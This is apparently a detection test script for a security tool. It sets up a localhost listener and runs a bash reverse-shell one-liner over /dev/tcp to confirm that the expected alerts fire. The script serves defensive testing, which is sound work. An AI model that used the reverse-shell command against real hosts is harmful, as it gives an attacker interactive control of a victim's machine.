#!/bin/sh
# Reverse shell: bash connects its stdio to a TCP peer with /dev/tcp (T1059.004).
# Harmless: the peer is a listener on 127.0.0.1 started here, which sends "exit" so the shell ends.
# Expected: Garrison Shell Uses dev tcp Redirection, Garrison Reverse Shell Stdio Bound to Network.
set -eu
command -v bash >/dev/null || { echo "SKIP: bash missing"; exit 77; }
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }
dir=$(mktemp -d); trap 'rm -rf "$dir"; kill "$listener" 2>/dev/null || true' EXIT
python3 - "$dir/port" <<'PY' &
import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
s.settimeout(10)
conn, _ = s.accept(); open(sys.argv[1] + ".connected", "w").close()
conn.sendall(b"sleep 1; exit\n"); conn.recv(64); conn.close()  # a session lasts a moment
PY
listener=$!
for _ in 1 2 3 4 5 6 7 8 9 10; do [ -s "$dir/port" ] && break; sleep 0.2; done
port=$(cat "$dir/port")
timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" || true
wait "$listener" 2>/dev/null || true
[ -e "$dir/port.connected" ] || { echo "failed: the shell never connected"; exit 1; }
echo "done: reverse shell to 127.0.0.1:$port"
